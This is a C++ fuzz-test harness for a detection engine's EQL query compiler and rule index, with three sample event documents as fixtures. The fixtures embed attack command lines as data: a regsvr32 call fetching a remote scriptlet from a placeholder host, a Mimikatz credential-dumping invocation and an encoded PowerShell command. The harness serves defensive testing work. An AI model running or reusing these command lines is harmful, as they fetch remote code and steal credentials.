// libFuzzer target: EQL text through the lexer, parser, analyzer and
// compiler; what compiles is evaluated against a few documents, and errors
// are rendered with their caret. The rule index files what compiles, and must
// offer it for every document it matches (the index may only narrow).
#include <algorithm>
#include <cstddef>
#include <cstdint>
#include <string>
#include <string_view>

#include "core/arena.h"
#include "core/field_registry.h"
#include "detect/rule_index.h"
#include "eql/compiler.h"
#include "ingest/event_reader.h"

using namespace vigil;

namespace {

const char* const kDocuments[] = {
    R"({"@timestamp":"2024-01-01T00:00:00Z","event":{"category":["process"],"type":["start"]},"process":{"name":"regsvr32.exe","pid":42,"args":["/s","/i:http://x/a.sct","scrobj.dll"],"command_line":"regsvr32 /s /i:http://x/a.sct scrobj.dll"},"destination":{"ip":"10.1.2.3","port":4444}})",
    R"({"event":{"category":"registry"},"registry":{"path":"HKLM\\SYSTEM\\ControlSet001\\Services\\x\\ServiceDLL","data":{"strings":["C:\\Users\\a\\x.dll"]}},"a":null,"b":[1,2.5,true,"x"],"c":{"d":"e"}})",
    R"({"event":{"category":"process","code":"4104","action":"x"},"powershell":{"file":{"script_block_text":"iex $PSHome[21]+$PSHome[30]; Invoke-Mimikatz sekurlsa::logonpasswords [abc] (x) y"}},"process":{"executable":"C:\\tools\\EDR-Freeze.exe","command_line":"a.exe -enc SQBFAFgA"}})",
};

}  // namespace

extern "C" int LLVMFuzzerTestOneInput(const std::uint8_t* data, std::size_t size) {
  const std::string text(reinterpret_cast<const char*>(data), size);
  FieldRegistry fields;
  auto compiled = eql::compile_query(text, fields);
  if (!compiled) {
    if (compiled.error().pos.offset > text.size()) __builtin_trap();  // errors point inside (or just past) the text
    (void)format_error(compiled.error(), "<fuzz>", text);
    return 0;
  }
  RuleIndex index(fields.intern("event.category"), fields.intern("event.type"));
  index.add_event_rule(0, *compiled->program, compiled->program->category, fields);
  EventReader reader(fields);
  Arena arena;
  std::string reason;
  for (const char* doc : kDocuments) {
    Event event;
    if (!reader.decode_one(doc, event, arena, reason)) continue;
    eql::EvalContext ctx;
    const bool matched = eql::matches(*compiled->program, event, ctx);
    std::vector<std::size_t> candidates;
    RuleIndex::Scratch scratch;
    index.candidates(event, candidates, scratch);
    if (matched && std::find(candidates.begin(), candidates.end(), 0) == candidates.end()) __builtin_trap();
  }
  return 0;
}
